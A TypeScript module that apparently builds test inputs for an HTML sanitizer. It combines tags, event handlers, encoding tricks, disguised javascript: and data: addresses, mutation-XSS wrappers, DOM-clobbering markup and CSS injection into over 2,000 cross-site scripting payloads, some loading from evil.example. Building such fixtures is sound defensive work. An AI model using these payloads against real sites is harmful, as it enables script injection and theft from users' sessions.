/** What an attacker wants to run. The test that shows the strings sees each of these. */
const payloads = ['alert(1)', 'confirm`1`', "window['prompt'](1)", 'top[/al/.source+/ert/.source](1)'];

const elements = [
  'img', 'svg', 'body', 'video', 'audio', 'details', 'input', 'marquee', 'object', 'iframe', 'a', 'p', 'custom-element', 'select',
] as const; // prettier-ignore

const events = [
  'onerror', 'onload', 'onclick', 'onfocus', 'onmouseover', 'ontoggle', 'onpointerenter', 'onanimationstart',
  'onbeforetoggle', 'oncontentvisibilityautostatechange', 'onwheel', 'onpaste', 'ONSCROLLEND', 'onFormData',
] as const; // prettier-ignore

/** Ways to write an attribute that parsers and filters read differently. */
const writings = [
  (name: string, value: string) => ` ${name}="${value}"`,
  (name: string, value: string) => `/${name}=${value}`,
  (name: string, value: string) => `\n${name}\t=\u000c'${value}'`,
  (name: string, value: string) => ` ${name}=x ${name}="${value}" ${name.toUpperCase()}='${value}'`,
  (name: string, value: string) => `\u0000 ${name}=&#x${value.charCodeAt(0).toString(16)};${value.slice(1)} `,
  (name: string, value: string) => ` title="--&gt;" style="x" ${name}=\`${value}\` data-decoded="true"`,
  (name: string, value: string) => ` x="'"${name}=${value.replaceAll('(', '&lpar;').replaceAll(')', '&rpar;')}`,
];

const handlers = elements.flatMap((element) =>
  events.flatMap((event, index) =>
    writings.map((write, way) => `<${element} src=x${write(event, payloads[(index + way) % payloads.length] ?? '')}>x`),
  ),
);

/** Addresses that run, in disguise: browsers drop tabs, line feeds and what stands before the first letter. */
const addresses = [
  'javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'java\tscript:alert(1)', 'java\nscript:alert(1)', '\u0001javascript:alert(1)',
  ' \r\n javascript:alert(1)', 'javascript&colon;alert(1)', '&#106;avascript:alert(1)', '&#x6A;&#x61;vascript:alert(1)',
  'javascript:/*--></title></style></script>*/alert(1)', 'javascript://%0aalert(1)', 'javascript:alert(1)//https://shop.example',
  'vbscript:msgbox(1)', 'data:text/html,<script>alert(1)</script>', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=alert(1)>', 'blob:https://evil.example/1', 'filesystem:https://evil.example/1', 'view-source:javascript:alert(1)',
  'feed:javascript:alert(1)', 'jar:https://evil.example!/', 'livescript:alert(1)', 'mocha:alert(1)', '\u00a0javascript:alert(1)',
] as const; // prettier-ignore

/** Places that an address may stand in. */
const places: readonly ((address: string) => string)[] = [
  (address) => `<a href="${address}">x</a>`,
  (address) => `<a href='${address}' target="_blank"><b>x</b></a>`,
  (address) => `<img src="${address}" alt="x">`,
  (address) => `<img srcset="${address} 2x" alt="x">`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<embed src="${address}">`,
  (address) => `<object data="${address}"></object>`,
  (address) => `<form action="${address}"><button formaction="${address}">x</button></form>`,
  (address) => `<svg><a xlink:href="${address}"><text y="9">x</text></a></svg>`,
  (address) => `<math href="${address}">x</math>`,
  (address) => `<base href="${address}"><a href="x">x</a>`,
  (address) => `<meta http-equiv="refresh" content="0;url=${address}">`,
  (address) => `<link rel="stylesheet" href="${address}">`,
  (address) => `<video poster="${address}" src="${address}"></video>`,
  (address) => `<table background="${address}"><td background="${address}">x</table>`,
  (address) => `<p style="background:url('${address}')">x</p>`,
  (address) =>
    `<div data-content-type="image"><a href="${address}"><img data-element="desktop_image" src="${address}"></a></div>`,
  (address) => `<div data-content-type="video"><div data-element="main" data-video-src="${address}"></div></div>`,
  (address) =>
    `<div data-content-type="buttons"><div data-content-type="button-item"><a href="${address}">x</a></div></div>`,
];

const addressed = addresses.flatMap((address) => places.map((place) => place(address)));

/** Markup whose meaning changes when it is read, written and read again. */
const wrappers: readonly ((inner: string) => string)[] = [
  (inner) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${inner}">`,
  (inner) => `<svg></p><style><a id="</style>${inner}">`,
  (inner) => `<noscript><p title="</noscript>${inner}">`,
  (inner) => `<template><div>${inner}</div></template>`,
  (inner) => `<form><math><mtext></form><form><mglyph><style></math>${inner}`,
  (inner) => `<select><template><style><!--</style><a rel="--></style></template></select>${inner}">`,
  (inner) => `<textarea><img title="</textarea>${inner}"></textarea>`,
  (inner) => `<title><a title="</title>${inner}">`,
  (inner) => `<xmp><p title="</xmp>${inner}">`,
  (inner) => `<!--><${'-'}->${inner}-->`,
  (inner) => `<![CDATA[><${inner}]]>`,
  (inner) => `<?xml version="1.0"?>${inner}<?`,
  (inner) => `<plaintext>${inner}`,
  (inner) => `<frameset><frame src=x>${inner}</frameset>`,
  (inner) => `<div data-content-type="html">${inner.replaceAll('<', '&lt;')}</div>`,
  (inner) => `<div data-content-type="html" data-decoded="true">${inner}</div>`,
  (inner) => `<div ${'a '.repeat(600)}>${inner}`,
  (inner) => '<b>'.repeat(200) + inner,
];

const innerMarkup = [
  '<img src=x onerror=alert(1)>', '<script>alert(1)</script>', '<svg onload=alert(1)>', '<iframe srcdoc="<script>alert(1)</script>">',
  '<a href=javascript:alert(1)>x</a>', '<style>*{display:none}</style>', '<input autofocus onfocus=alert(1)>', '<base href=//evil.example>',
  '<script\u0000>alert(1)</script>', '<scr<script>ipt>alert(1)</scr</script>ipt>', '<SCRIPT/SRC=//evil.example/x.js>', '<embed src=javascript:alert(1)>',
  '<set attributeName=onmouseover to=alert(1)>', '<use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x">',
] as const; // prettier-ignore

const mutating = wrappers.flatMap((wrap) => innerMarkup.map(wrap));

/** Names that would take the place of what scripts of the page look for. */
const clobbering = ['cart', 'content', 'location', 'cookie', 'forms', 'body', 'getElementById', '__proto__', 'constructor', 'settings'].flatMap(
  (name) => [
    `<a id="${name}" href="x">x</a><a id="${name}" name="y" href="javascript:alert(1)">x</a>`,
    `<form name="${name}"><input name="attributes"><input name="parentNode"></form>`,
    `<img name="${name}" src="x"><object id="${name}"></object>`,
    `<div data-content-type="row" data-background-images='{"${name}":{"desktop_image":"javascript:alert(1)"}}'>x</div>`,
  ],
); // prettier-ignore

const styles = [
  'position:fixed;inset:0;z-index:2147483647', 'background:url(https://evil.example/x)', 'background-image:image-set("https://evil.example/x" 1x)',
  'width:expression(alert(1))', 'behavior:url(x.htc)', '-moz-binding:url(https://evil.example/x#x)', '@import "https://evil.example/x"',
  'content:url(https://evil.example/x)', '--x:url(javascript:alert(1))', 'cursor:url(https://evil.example/x),auto', 'list-style:url(//evil.example)',
  'b\\61 ckground:u\\72l(https://evil.example)', 'position/**/:absolute;top:-9999px', 'filter:url(#x);mask:url(//evil.example)',
] as const; // prettier-ignore

const styled = styles.flatMap((style) => [
  `<p style="${style.replaceAll('"', '&quot;')}">x</p>`,
  `<style>p{${style}}</style><p>x</p>`,
  `<style>#html-body [data-pb-style=A]{${style}}</style><div data-content-type="row" data-pb-style="A">x</div>`,
  `<div data-content-type="row" style="${style.replaceAll('"', '&quot;')}"><div data-element="inner">x</div></div>`,
]);

/** More than 2,000 strings that attack a page, of every kind that is known, made of parts. */
export const hostileStrings: readonly string[] = [
  ...new Set([...handlers, ...addressed, ...mutating, ...clobbering, ...styled]),
];
